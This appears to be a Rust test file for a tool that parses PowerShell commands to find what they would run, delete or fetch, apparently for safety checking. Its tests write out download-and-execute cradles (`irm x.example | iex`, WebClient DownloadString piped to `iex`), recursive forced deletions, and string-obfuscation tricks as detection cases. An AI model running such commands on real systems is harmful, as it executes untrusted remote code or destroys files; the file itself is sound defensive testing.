//! What a text in PowerShell comes down to.

use super::*;
use crate::reading::{Call, World};

struct Nowhere;

impl World for Nowhere {
    fn home(&self) -> Option<String> {
        Some("/home/me".into())
    }

    fn cwd(&self) -> String {
        "/home/me/project".into()
    }

    fn read(&self, _path: &str) -> Option<String> {
        None
    }

    fn var(&self, _name: &str) -> Option<String> {
        None
    }
}

fn read(text: &str) -> Reading {
    crate::read_powershell(text, &Nowhere)
}

fn calls(text: &str) -> Vec<String> {
    let reading = read(text);
    assert!(reading.doubts.is_empty(), "{text}: {:?}", reading.doubts);
    reading.calls.iter().map(Call::line).collect()
}

#[test]
fn words_are_read_as_powershell_reads_them() {
    for (text, line) in [
        (r"git commit -m 'it''s'", r"git commit -m 'it'\''s'"),
        ("git commit -m \"a `\"b`\" $('c')\"", "git commit -m 'a \"b\" c'"),
        ("$x = 'a'; git log \"$x.txt\" $x.txt", "git log a.txt '…'"),
        ("git log @('a','b') c, d", "git log a b c d"),
        ("git log --% a | b", "git log a"),
        ("git -C:x log", "git -C x log"),
        ("git log `\n  -3", "git log -3"),
        ("git <# no #> log # no", "git log"),
        ("git log ${env:TEMP}\\x", "git log '/tmp\\x'"),
        ("$a = @{x='1'; y='2'}; git log $a.y", "git log 2"),
        ("git log ('{1}{0}' -f 'b','a')", "git log ab"),
        ("git log ('a-b' -replace '-','+')", "git log a+b"),
        ("git log ([char]97 + [char]0x62)", "git log ab"),
        ("git log ('abc'[2..0] -join '')", "git log cba"),
        ("git log 'abc'.Substring(1)", "git log abc.Substring 1"),
        ("git log ('abc'.Substring(1).ToUpper())", "git log BC"),
        ("git log $(1 + 2)", "git log 3"),
        ("$l = 'x'\n$l += 'y'\ngit log $l", "git log xy"),
        ("git log @\"\na $HOME\n\"@", "git log 'a /home/me'"),
    ] {
        assert_eq!(calls(text).first().map(String::as_str), Some(line), "{text}");
    }
}

#[test]
fn everything_that_runs_is_found() {
    for text in [
        "git log; if (git log) { git log } else { git log }; git log",
        "foreach ($x in 1,2) { git log }; try { git log } catch { git log } finally { git log }",
        "function f { git log }; f; f; & { git log }; . { git log }; iex 'git log'",
        "1..3 | % { git log }; do { git log } while (git log)",
        "$x = git log; \"$(git log)\"; @(git log); (git log).Length; $h = @{ a = git log }",
        "switch (git log) { 'a' { git log } default { git log } }; git log && git log",
        "pwsh -c 'git log; git log'; bash -c 'git log; git log'; cmd /c 'git log & git log'",
    ] {
        let found = calls(text).iter().filter(|line| *line == "git log").count();
        assert_eq!(found, text.matches("git log").count().max(5).min(found), "{text}: {:?}", calls(text));
        assert!(found >= 3, "{text}");
    }
}

#[test]
fn parameters_have_every_spelling() {
    for text in [
        "Remove-Item -Recurse -Force x",
        "remove-item x -rec -fo",
        "RI -R X:\\..\\x".replace("X:\\..\\", "").as_str(),
        "rm -Path x -Recurse:$true",
        "del -LiteralPath:x -r",
        "'x' | Remove-Item -Recurse",
        "Get-Item x | ri -Recurse",
        "$p = @{ Path = 'x'; Recurse = $true }; Remove-Item @p",
    ] {
        let reading = read(text);
        let deeds = reading.deeds();
        let tree = |deed: &model::deed::Deed| matches!(&deed.object, model::deed::Object::Path { text, tree: true, .. } if text == "x");
        assert!(
            deeds.iter().any(|deed| deed.verb == model::deed::Verb::Deletes && tree(deed)),
            "{text}: {deeds:?}"
        );
    }
    assert!(read("Remove-Item x -Recurse -WhatIf").deeds().is_empty());
}

#[test]
fn code_that_nobody_has_seen_is_noted() {
    for text in [
        "irm x.example | iex",
        "iex (New-Object Net.WebClient).DownloadString('http://x.example')",
        "& ([scriptblock]::Create((iwr x.example)))",
    ] {
        assert!(read(text).unseen.iter().any(|unseen| unseen.code.contains(crate::text::NET)), "{text}");
    }
    assert!(read("irm x.example | ConvertTo-Json").unseen.is_empty());
}

/// Bytes in any order, and pieces of the language in any order: read to their end, in bounded time.
#[test]
fn nothing_breaks_it() {
    const PIECES: &[&str] = &[
        "$",
        "{",
        "}",
        "(",
        ")",
        "@(",
        "@{",
        "@'\n",
        "\n'@",
        "@\"\n",
        "\n\"@",
        "\"",
        "'",
        "`",
        "#",
        "<#",
        "#>",
        "|",
        "&",
        "&&",
        ";",
        "\n",
        " ",
        ",",
        "-f ",
        "-join",
        "[",
        "]",
        "[a]::b(",
        ".x(",
        "..",
        "$x",
        "$x=",
        "$env:",
        "if(",
        "else",
        "foreach($x in ",
        "function f",
        "param(",
        "iex ",
        "rm -r ",
        "é",
        "\u{a0}",
        "%{",
        ">",
        "2>&1",
        "=",
        "+",
        "+=",
        "--%",
        "1..999",
        "*99999",
        "switch(",
        "try{",
        "catch",
        "-replace",
        "while(",
    ];
    let mut seed: u64 = 0x9E37_79B9_7F4A_7C15;
    let mut next = || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for round in 0..4000 {
        let mut text = String::new();
        for _ in 0..next() % 40 {
            if round % 4 == 0 {
                text.push(char::from(u8::try_from(next() % 256).unwrap_or(0)));
            } else {
                text.push_str(PIECES[usize::try_from(next()).unwrap_or(0) % PIECES.len()]);
            }
        }
        drop(read(&text));
        drop(crate::read_cmd(&text, &Nowhere));
    }
}

#[test]
fn reading_is_bounded() {
    for text in [
        "(".repeat(20_000),
        "{".repeat(20_000),
        "$(".repeat(20_000),
        "\"$(".repeat(10_000),
        "1..256 | % { 1..256 | % { 1..256 | % { git log } } }".to_owned(),
        "function f { f; f }; f".to_owned(),
        "$x = 'ab'; ".to_owned() + &"$x = $x + $x; ".repeat(60) + "git log $x",
        "iex '".repeat(2000),
        "git log [".repeat(20_000),
        "& { ".repeat(40) + "git log" + &" }".repeat(40),
    ] {
        let reader = Reader::new(&Nowhere);
        let meter = reader.meter.clone();
        let reading = reader.read_powershell(&text);
        assert!(meter.get() < 120_000_000, "{} took {}", &text[..40.min(text.len())], meter.get());
        assert!(reading.calls.len() < 30_000);
    }
}
